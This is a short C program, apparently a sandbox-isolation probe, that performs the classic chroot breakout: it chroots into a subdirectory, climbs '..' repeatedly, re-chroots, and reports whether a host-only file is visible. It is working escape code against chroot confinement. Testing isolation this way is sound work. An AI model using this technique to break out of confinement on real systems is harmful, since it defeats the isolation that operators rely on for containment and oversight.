/*
 * escape: try to leave a chroot the classic way, then look for a file
 * that exists only on the host.
 *
 * chroot(2) changes where "/" leads, and nothing else: the working
 * directory stays where it was. So chroot into a subdirectory without
 * going there leaves us *outside* our new root, where ".." keeps
 * climbing, up to the real root of the mount namespace. Under a plain
 * chroot that is the host's root; after pivot_root there is nothing
 * above the container's own.
 *
 * Static, so that it runs in a rootfs without a C library.
 * Usage: escape PATH-ON-THE-HOST
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    struct stat st;
    int i;

    if (argc != 2) {
        fprintf(stderr, "usage: escape PATH-ON-THE-HOST\n");
        return 2;
    }
    mkdir("/tmp/hatch", 0700);
    if (chroot("/tmp/hatch") != 0) {
        perror("chroot /tmp/hatch");
        return 2;
    }
    for (i = 0; i < 256; i++)
        chdir("..");
    if (chroot(".") != 0) {
        perror("chroot .");
        return 2;
    }
    if (stat(argv[1], &st) == 0)
        printf("escaped: %s is there\n", argv[1]);
    else
        printf("stayed inside: there is no %s\n", argv[1]);
    return 0;
}
